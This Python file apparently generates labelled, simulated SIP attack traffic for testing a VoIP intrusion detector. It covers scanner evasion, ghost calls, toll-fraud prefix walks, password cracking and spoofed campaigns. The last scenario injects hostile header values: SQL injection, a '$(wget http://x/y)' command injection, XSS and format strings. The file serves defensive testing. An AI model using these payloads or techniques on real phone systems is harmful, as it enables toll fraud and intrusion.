# SPDX-License-Identifier: MIT
"""Attacks for adversary.py that show in what they do: evasion, ghost calls, toll fraud, whole chains, attacks inside honest traffic, and
small or plain ones. Returns and truth as in adversary_tools.py."""
from adversary_words import *
from sipstory import Dialler, Phone, SipPts, SipVicious, sipvicious_tag


# --- evasion ---------------------------------------------------------------------------------------------------------------

@attack("evade-random")
@attack("evade-random-shuffled", order="shuffle")
@attack("evade-random-slow", pace=61.0)
@attack("evade-random-port", port=5070)
@attack("evade-lines", how="crlf")
@attack("evade-folded", how="folded")
@attack("evade-compact", how="compact")
@attack("evade-case", how="case")
@attack("evade-bare", how="bare")
@attack("evade-fragments", how="fragments")
@attack("evade-fragments-reordered", how="reordered")
@attack("evade-fragments-overlapping", how="overlapping")
def evade(s, how=None, order=None, pace=0.05, port=5060):
    live, targets = everybody(s), list(NETWORK[:63])
    if order:
        s.rng.shuffle(targets)
    for n, target in enumerate(targets):
        source, at = ("203.0.113.124", s.rng.randint(20000, 60000)), 1 + n * pace
        request = random_probe(s, source, target)
        text = request.text()
        if how in ("folded", "compact", "case", "bare"):
            text = disguise(text, how, s.rng)
        elif how == "crlf":
            text = "\r\n" * s.rng.randint(1, 4) + text
        request.sent_to = (target, port)
        if how in ("fragments", "reordered", "overlapping"):
            order_of = (lambda count: list(range(count))[::-1]) if how == "reordered" else None
            fragments(s, at, source, (target, port), text, 24 if how == "fragments" else 64, order_of, how == "overlapping")
        else:
            s.say(at, source, (target, port), text)
        if target in live and how != "overlapping":
            live[target](at + 0.005, source, request)
    return {"203.0.113.124": SWEEP}


@attack("evade-escaped-users")
@attack("evade-escaped-hardened", leaks=False)
def evade_escaped(s, leaks=True):
    pbx = pbx_of(s, leaks=leaks)
    for n in range(60):
        user = "".join(f"%{ord(c):02x}" for c in str(100 + n))
        source = ("203.0.113.125", 5060)
        request = Stack(s, "zoiper", source[0], user).request("REGISTER", f"sip:{PBX}", user, PBX)
        s.say(1 + n * 0.2, source, pbx.at, request)
        pbx.take(1 + n * 0.2, source, request)
    return {"203.0.113.125": ENUM}


@attack("evade-tcp-cut", cut=7)
@attack("evade-tcp-many", together=10)
@attack("evade-tcp-both", cut=101, together=4)
def evade_tcp(s, cut=None, together=1):
    source = ("203.0.113.126", 45000)
    requests = [random_probe(s, source, PBX, str(100 + n)) for n in range(60)]
    for n, r in enumerate(requests):
        r.start = r.start.replace("OPTIONS", "REGISTER")
        r.fields = [("CSeq", "1 REGISTER") if f[0] == "CSeq" else (f[0], f[1].replace("UDP", "TCP")) if f[0] == "Via" else f for f in r.fields]
    tcp_ask(s, 1, source, (PBX, 5060), requests, lambda r: answer(r, 404, "Not Found", to_tag=s.hex(8)), cut, together)
    return {"203.0.113.126": ENUM}


# --- ghost calls -----------------------------------------------------------------------------------------------------------

@attack("ghost-one-phone")
@attack("ghost-one-phone-all-night", gap=2400.0)
def ghost_one_phone(s, gap=60.0):
    """The same phone rings again and again; nobody ever speaks."""
    stack, phone = Stack(s, "spa", "203.0.113.140", "1000"), (LIVE[0], 5060)
    for n in range(10):
        request, mark = stack.request("INVITE", f"sip:100@{phone[0]}", "100", phone[0], body=sdp("203.0.113.140", 9000)), s.hex(8)
        s.say(1 + n * gap, stack.seen_as, phone, request)
        s.say(1.1 + n * gap, phone, stack.seen_as, answer(request, 180, "Ringing", to_tag=mark))
        s.say(9 + n * gap, phone, stack.seen_as, answer(request, 486, "Busy Here", to_tag=mark))
    return {"203.0.113.140": "ghost-call,(probe)"}


@attack("ghost-some-speak")
def ghost_some_speak(s):
    """Four of ten pick up and listen for three seconds; only their calls are acknowledged."""
    for n, phone in enumerate((a, 5060) for a in LIVE[:10]):
        stack, at, mark = Stack(s, "spa", "203.0.113.141", "1000"), 1 + n * 8, s.hex(8)
        ids = dict(call_id=s.hex(24), tag=s.hex(8))
        request = stack.request("INVITE", f"sip:100@{phone[0]}", "100", phone[0], body=sdp("203.0.113.141", 9000), **ids)
        s.say(at, stack.seen_as, phone, request)
        s.say(at + 0.1, phone, stack.seen_as, answer(request, 180, "Ringing", to_tag=mark))
        if n not in (0, 1, 4, 7):
            s.say(at + 5, phone, stack.seen_as, answer(request, 486, "Busy Here", to_tag=mark))
            continue
        s.say(at + 2, phone, stack.seen_as, answer(request, 200, "OK", [("Contact", f"<sip:{phone[0]}>")], sdp(phone[0], 11800), to_tag=mark))
        s.say(at + 2.02, stack.seen_as, phone, stack.request("ACK", f"sip:{phone[0]}", "100", phone[0], to_tag=mark, **ids))
        bye = stack.request("BYE", f"sip:{phone[0]}", "100", phone[0], cseq=2, to_tag=mark, **ids)
        s.say(at + 5, stack.seen_as, phone, bye)
        s.say(at + 5.02, phone, stack.seen_as, answer(bye, 200, "OK"))
    return {"203.0.113.141": GHOST.replace("sweep", "(sweep)")}


@attack("ghost-100", caller="100")
@attack("ghost-1000-shuffled", caller="1000", order="shuffle")
@attack("ghost-1101-five", caller="1101", phones=LIVE[3:8], truth=RINGS)
@attack("ghost-named", caller="4921112345", agent="Yealink SIP-T46S 66.86.0.15")
@attack("ghost-no-agent", caller="1001", agent=None)
@attack("ghost-slow", caller="1101", gap=300.0)
@attack("ghost-answered", caller="100", final=(4, 200, "OK"))
@attack("ghost-declined", caller="100", final=(6, 603, "Decline"))
@attack("ghost-with-cancel", caller="1101", cancel=2.0)
def ghost(s, caller, phones=LIVE, agent="sipcli/v1.8", gap=1.5, order=None, final=None, cancel=None, truth=GHOST):
    live, phones = phones_at(s, final=final), list(phones)
    if order:
        s.rng.shuffle(phones)
    for n, phone in enumerate(phones):
        source, at = ("203.0.113.70", 5071), 1 + n * gap
        fields = [("Via", f"SIP/2.0/UDP {source[0]}:5071;branch=z9hG4bK-{s.hex(32)};rport"), ("Max-Forwards", "70"),
                  ("From", f'"{caller}" <sip:{caller}@{source[0]}>;tag={s.hex(8)}'), ("To", f"<sip:100@{phone}>"), ("Call-ID", s.hex(24)),
                  ("CSeq", "1 INVITE"), ("Contact", f"<sip:{caller}@{source[0]}:5071>")]
        fields += [("User-Agent", agent)] if agent else []
        request = Message(f"INVITE sip:100@{phone} SIP/2.0", fields + [("Content-Length", "0")])
        mark = send(s, at, source, (phone, 5060), request, live)
        if final and final[1] == 200:
            ack = [("To", f"<sip:100@{phone}>;tag={mark}") if f[0] == "To" else ("CSeq", "1 ACK") if f[0] == "CSeq" else f for f in fields]
            s.say(at + 4.1, source, (phone, 5060), Message(f"ACK sip:100@{phone} SIP/2.0", ack + [("Content-Length", "0")]))
        if cancel:
            stop = Message(f"CANCEL sip:100@{phone} SIP/2.0", [("CSeq", "1 CANCEL") if f[0] == "CSeq" else f for f in fields])
            s.say(at + cancel, source, (phone, 5060), stop)
            s.say(at + cancel + 0.01, (phone, 5060), source, answer(stop, 200, "OK", to_tag="5"))
            s.say(at + cancel + 0.02, (phone, 5060), source, answer(request, 487, "Request Terminated", to_tag="5"))
    return {"203.0.113.70": truth}


@attack("ghost-sipp")
def ghost_sipp(s):
    live = phones_at(s)
    for n, phone in enumerate(LIVE):
        request = sipp(s, "203.0.113.71", 5062, n + 1, host=phone)
        send(s, 1 + n * 1.1, ("203.0.113.71", 5062), (phone, 5060), request, live)
    return {"203.0.113.71": GHOST}


@attack("ghost-at-registered-phones")
def ghost_registered(s):
    """Phones with a provider elsewhere, behind one address each; the stranger calls the ports that NAT opened."""
    pbx = Pbx(s, PBX, {str(200 + n): f"pw{n}" for n in range(12)})
    phones = [Phone(s, f"192.168.{n}.20", str(200 + n), f"pw{n}", "snom", seen_as=(f"192.0.2.{20 + n}", 5060)) for n in range(12)]
    for n, phone in enumerate(phones):
        phone.register(1 + n * 0.3, pbx)
    live = phones_at(s, [p.seen_as[0] for p in phones])
    for n, phone in enumerate(phones):
        source = ("203.0.113.72", 5060)
        tool = SipVicious(s, source[0], agent="friendly-scanner")
        tag = sipvicious_tag(s, f"{int(ipaddress.ip_address(phone.seen_as[0])):08x}13c4")
        request = tool.request("INVITE", f"sip:100@{phone.seen_as[0]}", "100", "100", "1.1.1.1", tag, s.digits(22), "sip:100@127.0.0.1:5060")
        send(s, 60 + n * 2, source, (phone.seen_as[0], 5060), request, live)
    return {"203.0.113.72": GHOST}


# --- toll fraud ------------------------------------------------------------------------------------------------------------

PREFIXES = ["", "0", "00", "000", "0000", "9", "90", "900", "9000", "9011", "011", "0011", "810", "9810", "8", "800", "1", "100", "7", "70", "+"]


@attack("toll-sipcli")
@attack("toll-vax", agent="VaxSIPUserAgent/3.5")
@attack("toll-gateway", agent="Cisco-SIPGateway/IOS-12.x")
@attack("toll-403", refuse=(403, "Forbidden"))
@attack("toll-404", refuse=(404, "Not Found"))
@attack("toll-603", refuse=(603, "Declined"))
@attack("toll-slow", gap=600.0)
@attack("toll-few-prefixes", prefixes=PREFIXES[:7])
@attack("toll-many-numbers", tails=["972599123456", "46812118532", "441224928354", "37166000111"])
@attack("toll-stolen-account", account=("1000", "1234"))
@attack("toll-guest-answered", guests=True)
@attack("toll-silent", silent=True)
def toll(s, agent="sipcli/v1.8", refuse=None, gap=0.4, prefixes=PREFIXES, tails=("972599123456",), account=None, guests=False, silent=False):
    pbx = pbx_of(s, guests=guests, numbers=("900972", "9011972", "00972") if account or guests else ())
    if refuse:
        pbx.take = lambda at, src, r: None if r.method == "ACK" else pbx._reply(at + 0.004, src, r, *refuse)
    if silent:
        pbx.send = lambda *a, **k: None
    thief, at = Dialler(s, "203.0.113.80", agent=agent), 1.0
    for tail in tails:
        for prefix in prefixes:
            thief.dial(at, pbx, prefix + tail, account)
            at += gap
    return {"203.0.113.80": TOLL}


@attack("toll-registered-account")
@attack("toll-registered-account-fixed-prefix", prefixes=["00"], tails=[f"9725991{n:05d}" for n in range(40)], optional=True)
def toll_registered(s, prefixes=PREFIXES, tails=("972599123456",), optional=False):
    """A stolen password: the thief registers like a phone, then walks through prefixes."""
    pbx = pbx_of(s, numbers=("900972", "9011972", "00972"))
    thief = Stack(s, "zoiper", "203.0.113.81", "1000")
    thief.register(1, pbx, "1234")
    at = 3.0
    for tail in tails:
        for prefix in prefixes:
            thief.call(at, pbx, prefix + tail, "1234", talk=50)
            at += 5
    return {} if optional else {"203.0.113.81": TOLL + ",(breach)"}


@attack("chain-war-crack-toll")
def chain(s):
    """The whole way: extensions, password, calls."""
    pbx = pbx_of(s, numbers=("900972", "00972"))
    tool = SipVicious(s, "203.0.113.82")
    at = tool.war(1.0, pbx, range(990, 1010))
    at, guess = tool.crack(at + 5, pbx, "1000", [str(n) for n in range(1180, 1300)])
    thief = Dialler(s, "203.0.113.82")
    for n, prefix in enumerate(PREFIXES):
        thief.dial(at + 20 + n * 6, pbx, prefix + "972599123456", ("1000", guess))
    return {"203.0.113.82": "probe,enumerate,crack,breach,toll-fraud,(flood),(ghost-call)"}


@attack("chain-calls-from-elsewhere")
def chain_elsewhere(s):
    """One address finds the password, another makes the calls with it."""
    pbx = pbx_of(s, numbers=("900972", "00972"))
    at, guess = SipVicious(s, "203.0.113.83").crack(1, pbx, "1000", [str(n) for n in range(1180, 1300)])
    thief = Dialler(s, "203.0.113.84")
    for n, prefix in enumerate(PREFIXES):
        thief.dial(at + 200 + n * 6, pbx, prefix + "972599123456", ("1000", guess))
    return {"203.0.113.83": BREACH, "203.0.113.84": TOLL + ",(breach)"}


# --- inside honest traffic -------------------------------------------------------------------------------------------------

def office(s, at, count=20, address="192.0.2.11", minutes=3):
    pbx = Pbx(s, "198.51.100.11", {str(2100 + n): f"pw{n}" for n in range(count)}, numbers=("0", "21"))
    kinds = list(AGENTS)
    phones = [Phone(s, f"192.168.1.{10 + n}", str(2100 + n), f"pw{n}", kinds[n % len(kinds)], seen_as=(address, 20000 + n)) for n in range(count)]
    for n, phone in enumerate(phones):
        phone.register(at + n * 0.2, pbx)
        phone.register(at + 60 + n * 0.2, pbx, forget=False)
        if n % 3 == 0:
            phone.call(at + 10 + n * 4, pbx, f"0{s.digits(9, 10)}", talk=30)
    for turn in range(minutes):
        qualify(s, at + 20 + turn * 60, pbx, [p.seen_as for p in phones])
    return pbx, phones


@attack("mix-svmap", do="map")
@attack("mix-svwar", do="war")
@attack("mix-rcrack", do="rcrack")
@attack("mix-toll", do="toll")
@attack("mix-random-sweep", do="random")
@attack("mix-attacker-behind-the-office", do="inside")
def mix(s, do):
    pbx, phones = office(s, 1)
    agent, who = "Yealink SIP-T46S 66.86.0.15", "203.0.113.90"
    live = everybody(s)
    live["198.51.100.11"] = pbx.take
    if do == "map":
        SipVicious(s, who, agent=agent).map(30, NETWORK, answers={a: live[a] for a in LIVE if a in live and False})
        return {who: "(probe),sweep"}
    if do == "war":
        SipVicious(s, who, agent=agent).war(30, pbx, range(2090, 2140))
        return {who: ENUM}
    if do == "rcrack":
        SipPts(s, who, agent).crack(30, pbx, "2105", [str(n) for n in range(60)])
        return {who: CRACK}
    if do == "toll":
        thief = Dialler(s, who, agent=agent)
        for n, prefix in enumerate(PREFIXES):
            thief.dial(30 + n * 3, pbx, prefix + "972599123456")
        return {who: TOLL}
    if do == "inside":
        SipVicious(s, "192.0.2.11", 31000, agent=agent).war(30, pbx, range(2090, 2140))
        return {}  # spared: twenty honest phones share its address
    for n, target in enumerate(s.rng.sample(NETWORK, 60)):
        source = (who, s.rng.randint(20000, 60000))
        send(s, 30 + n, source, (target, 5060), random_probe(s, source, target), live)
    return {who: SWEEP}


@attack("sampled-sweep")
def sampled_sweep(s):
    """Svmap over a network of which a quarter answers; the capture has half of the packets, by chance."""
    keep = s.capture.udp
    s.capture.udp = lambda *a, **k: s.rng.random() < 0.5 and keep(*a, **k)
    live = everybody(s)
    for n, target in enumerate(s.rng.sample(NETWORK, len(NETWORK))):
        source = ("203.0.113.91", 33000)
        send(s, 1 + n * 0.1, source, (target, 5060), random_probe(s, source, target), live)
    return {"203.0.113.91": SWEEP}


# --- small and plain ones --------------------------------------------------------------------------------------------------

@attack("small-sweep-16", count=16)
@attack("small-sweep-12-shuffled", count=24, order="shuffle")
def small_sweep(s, count, order=None):
    live, targets = {a: t for a, t in everybody(s).items() if a in LIVE[:3]}, NETWORK[15:15 + count]
    if order:
        s.rng.shuffle(targets)
    for n, target in enumerate(targets):
        source = ("203.0.113.127", s.rng.randint(20000, 60000))
        send(s, 1 + n, source, (target, 5060), random_probe(s, source, target), live)
    return {"203.0.113.127": SWEEP}


@attack("plain-enumerate", kind="pjsip")
@attack("plain-enumerate-slow", kind="linphone", pace=600.0)
@attack("plain-enumerate-hardened", kind="zoiper", leaks=False)
@attack("plain-enumerate-options", kind="asterisk", method="OPTIONS")
@attack("plain-enumerate-invite", kind="zoiper", method="INVITE")
def plain_enumerate(s, kind, pace=0.5, leaks=True, method="REGISTER"):
    """No known grammar: only what it does."""
    pbx = pbx_of(s, leaks=leaks) if method == "REGISTER" else TargetPbx(s, PBX, ACCOUNTS, leaks=True)
    for n in range(40):
        user = str(90 + n)
        stack = Stack(s, kind, "203.0.113.128", user)
        request = stack.request(method, f"sip:{PBX}" if method == "REGISTER" else f"sip:{user}@{PBX}", user, PBX)
        s.say(1 + n * pace, stack.seen_as, pbx.at, request)
        pbx.take(1 + n * pace, stack.seen_as, request)
    return {"203.0.113.128": ENUM}


@attack("plain-enumerate-twice")
@attack("plain-enumerate-repeats-at-once", gap=4.0, same=True)
@attack("plain-enumerate-some-back", same=True, back=12)
def plain_enumerate_again(s, gap=60.0, same=False, back=40):
    """It asks again, but not as a phone comes back: anew, or at once, or for a few names only."""
    pbx = pbx_of(s)
    stacks = [Stack(s, "pjsip", "203.0.113.139", str(90 + n)) for n in range(40)]
    for turn in range(2):
        for n, stack in enumerate(stacks[:back] if turn else stacks):
            stack.register(1 + turn * gap + n * 0.05, pbx, "1234", fresh=not same)
    return {"203.0.113.139": ENUM + ",(crack)"}


@attack("plain-enumerate-80-sources")
def plain_spread(s):
    pbx, sources = pbx_of(s), [f"192.0.2.{n}" for n in range(101, 181)]
    for n in range(320):
        user = str(4000 + n)
        stack = Stack(s, "pjsip", sources[n % 80], user)
        request = stack.request("REGISTER", f"sip:{PBX}", user, PBX)
        s.say(1 + n * 8, stack.seen_as, pbx.at, request)
        pbx.take(1 + n * 8, stack.seen_as, request)
    return dict.fromkeys(sources, ENUM)


@attack("forged-campaign-60", count=60)
@attack("forged-campaign-300", count=300, pace=0.02)
@attack("forged-campaign-60-calls", count=60, method="INVITE")
@attack("forged-campaign-30-three-each", count=30, each=3)
def forged_campaign(s, count, pace=0.05, method="REGISTER", each=1):
    """One attacker writes svwar's requests in the names of others, some of them resolvers that all the world uses. Our phone system answers, and
    nobody who is named ever sent anything: whoever is banned for it is the forger's victim."""
    pbx, named = pbx_of(s), [f"203.0.113.{n}" for n in range(1, 200)] + [f"198.18.{n}.53" for n in range(1, 120)]
    victims = ["8.8.8.8", "9.9.9.9"] + named[:count - 2]
    for n in range(count * each):
        victim = victims[n % count]
        tool, user = SipVicious(s, victim), str(1000 + n)
        tag = sipvicious_tag(s, user.encode().hex() + "0131303030")
        request = tool.request(method, f"sip:{PBX}", user, user, PBX, tag, s.digits(22, 25), f"sip:{user}@{PBX}")
        s.say(1 + n * pace, tool.source, pbx.at, request)
        pbx.take(1 + n * pace, tool.source, request)
    return dict.fromkeys(victims, "probe,watched,(enumerate),(sweep),(ghost-call)")


@attack("plain-sweep-80-sources")
def plain_sweep_spread(s):
    sources, targets = [f"192.0.2.{n}" for n in range(101, 181)], list(NETWORK)
    s.rng.shuffle(targets)
    for n in range(80):
        stack, target = Stack(s, "asterisk", sources[n], "100"), targets[n % 64]
        s.say(1 + n * 8, stack.seen_as, (target, 5060), stack.request("OPTIONS", f"sip:100@{target}", "100", target))
    return dict.fromkeys(sources, SWEEP)


@attack("plain-crack", pace=0.3)
@attack("plain-crack-10s", pace=10.0)
@attack("plain-crack-one-call-id", pace=0.2, fresh=False)
@attack("plain-crack-success", pace=1.0, guesses=[f"x{n}" for n in range(30)] + ["1234"], user="1000", truth=BREACH)
@attack("plain-crack-10s-success", pace=10.0, guesses=[f"x{n}" for n in range(30)] + ["1234"], user="1000", truth=BREACH)
def plain_crack(s, pace, fresh=True, guesses=[f"x{n}" for n in range(60)], user="101", truth=CRACK):
    pbx, stack = pbx_of(s), Stack(s, "zoiper", "203.0.113.129", user)
    for n, guess in enumerate(guesses):
        stack.register(1 + n * pace, pbx, guess, fresh=fresh)
    return {"203.0.113.129": truth}


@attack("ghost-three", phones=LIVE[5:8], truth=RINGS)
@attack("ghost-random-caller", shuffled=True)
def plain_ghost(s, phones=LIVE, shuffled=False, truth=GHOST):
    live = phones_at(s)
    for n, phone in enumerate(s.rng.sample(phones, len(phones)) if shuffled else phones):
        stack = Stack(s, "pjsip", "203.0.113.130", s.digits(4, 11))
        request = stack.request("INVITE", f"sip:{phone}", "x", phone, body=sdp("203.0.113.130", 4000))
        send(s, 1 + n * 20, stack.seen_as, (phone, 5060), request, live)
    return {"203.0.113.130": truth}


@attack("sipsak-traceroute", truth="probe")
def trace(s, truth):
    for hops in range(2):
        port = s.rng.randint(33000, 60000)
        request = sipsak(s, "203.0.113.66", port, "OPTIONS", f"sip:100@{PBX}")
        request.fields = [("Max-Forwards", str(hops)) if f[0] == "Max-Forwards" else f for f in request.fields]
        s.say(1 + hops, ("203.0.113.66", port), (PBX, 5060), request)
        s.say(1.004 + hops, (PBX, 5060), ("203.0.113.66", port), answer(request, 200 if hops else 483, "OK" if hops else "Too Many Hops", to_tag="x"))
    return {"203.0.113.66": truth}


@attack("injection", truth="exploit,(probe),(enumerate)")
def injection(s, truth):
    pbx = pbx_of(s)
    for n, text in enumerate(["' or '1'='1' -- ", "1;DROP TABLE sip;--", "$(wget http://x/y)", "<script>alert(1)</script>", "%n%n%n%s%s"]):
        stack = Stack(s, "zoiper", "203.0.113.131", "100")
        request = stack.request("REGISTER", f"sip:{PBX}", "100", PBX)
        request.fields = [("From", f'"{text}" <sip:100@{PBX}>;tag=1') if f[0] == "From" else f for f in request.fields]
        s.say(1 + n, stack.seen_as, pbx.at, request)
        pbx.take(1 + n, stack.seen_as, request)
    return {"203.0.113.131": truth}
